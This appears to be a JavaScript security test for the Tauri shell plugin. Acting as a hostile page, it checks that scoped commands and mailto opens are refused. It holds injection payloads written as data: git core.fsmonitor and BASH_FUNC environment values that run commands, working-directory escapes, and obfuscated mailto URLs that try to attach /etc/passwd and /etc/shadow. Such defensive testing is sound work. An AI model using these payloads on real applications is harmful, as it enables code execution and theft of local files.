// A hostile page against the shell plugin, through the unmodified @tauri-apps/plugin-shell.
// It has only what app/capabilities grant its window: `main` the scope entries of main.json,
// `mail` only shell:default. Each window reports {scenario: {ok, detail}} in its title as
// "DONE <json>"; check_attack.py checks the report and what each attack left on disk.
// __WORK__ (the run's folder) is defined by the esbuild command in run_shell_attacks.sh.
import { Command, open } from '@tauri-apps/plugin-shell';
import { results, scenario, expect, short, setDetailLengths } from '../../prelude/scenario.js';

setDetailLengths(40, 70);

// The call's rejection text; throws when the call went through (the attack was not stopped).
async function refused(promise) {
  let value;
  try {
    value = await promise;
  } catch (e) {
    return String(e);
  }
  throw new Error('the call went through: ' + JSON.stringify(value));
}

async function mainWindow() {
  // docs/plugins/shell.md's own entry: git reads its configuration from the environment, and
  // core.fsmonitor is a command git runs on `commit`.
  await scenario('git_config_env_runs_no_code', () => refused(
    Command.create('git-commit', ['commit', '-m', 'innocent'], {
      env: { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'core.fsmonitor', GIT_CONFIG_VALUE_0: 'id > pwned-git; false' },
    }).execute()));

  // bash imports exported functions from BASH_FUNC_<name>%% variables: `date` becomes the page's.
  await scenario('bash_function_env_runs_no_code', () => refused(
    Command.create('stamp', [], { env: { 'BASH_FUNC_date%%': '() { id > pwned-bash; echo hijacked; }' } }).execute()));

  // No entry names a folder, so the page chooses none.
  await scenario('cwd_etc_refused', () => refused(Command.create('where', [], { cwd: '/etc' }).execute()));
  await scenario('cwd_other_repo_refused', () => refused(
    Command.create('git-commit', ['commit', '-m', 'pwned'], { cwd: __WORK__ + '/victim' }).execute()));

  // Tauri's `env: null` (an empty environment) adds nothing the page chose: it still runs.
  await scenario('env_null_still_runs', async () => {
    const cleared = await Command.create('stamp', [], { env: null }).execute();
    expect(cleared.code === 0 && cleared.stdout.startsWith('stamp '), 'a stamp, got ' + JSON.stringify(cleared));
    const plain = await Command.create('stamp').execute();
    expect(plain.code === 0 && plain.stdout.startsWith('stamp '), 'a stamp, got ' + JSON.stringify(plain));
    return 'ran';
  });

  // What a page learns from refusals: check_attack.py reads these messages. (WebKit cuts a title
  // at 1000 characters, hence the short details.)
  await scenario('scope_details_hidden', async () => {
    const errors = {
      not_in_scope: short(await refused(Command.create('nope').execute()), 100),
      validator: short(await refused(Command.create('git-commit', ['commit', '-m', '']).execute()), 100),
      count: short(await refused(Command.create('where', ['extra']).execute()), 100),
    };
    return JSON.stringify(errors);
  }, 400);
}

// Mail clients (Evolution, KMail, Thunderbird's -compose, ...) attach the file that an `attach`
// or `attachment` field names: the message then carries a local file to an address of the page's.
const attachUrls = [
  'mailto:victim@example.com?attach=/etc/passwd',
  'mailto:victim@example.com?subject=hi&ATTACH=/etc/passwd',
  'mailto:victim@example.com?%61ttach=/etc/passwd',
  'mailto:victim@example.com?%2561ttach=%252Fetc%252Fpasswd',
  'mailto:victim@example.com?attachment=file:///etc/shadow',
  'mailto:victim@example.com?body=x;Attachment=/etc/passwd',
  'mailto:victim@example.com%3Fattach%3D/etc/passwd',
  'mailto:victim@example.com?%20attach=/etc/passwd',
];

async function mailWindow() {
  await scenario('mailto_attach_refused', async () => {
    const opened = [];
    for (const url of attachUrls) {
      try {
        await open(url);
        opened.push(url);
      } catch (e) {
        // refused: what this scenario wants
      }
    }
    expect(opened.length === 0, 'every attach URL refused, opened ' + JSON.stringify(opened));
    return 'refused';
  });

  await scenario('mailto_plain_still_opens', async () => {
    await open('mailto:friend@example.com?subject=Hello%20there&body=see%20attached');
    return 'opened';
  });
}

async function run() {
  const label = window.__TAURI_INTERNALS__.metadata.currentWindow.label;
  results.metadata = { ok: true, detail: label };
  if (label === 'main') await mainWindow();
  else if (label === 'mail') await mailWindow();
  document.title = 'DONE ' + JSON.stringify(results);
}

run().catch((e) => { document.title = 'DONE ' + JSON.stringify({ runner: { ok: false, detail: String(e) } }); });
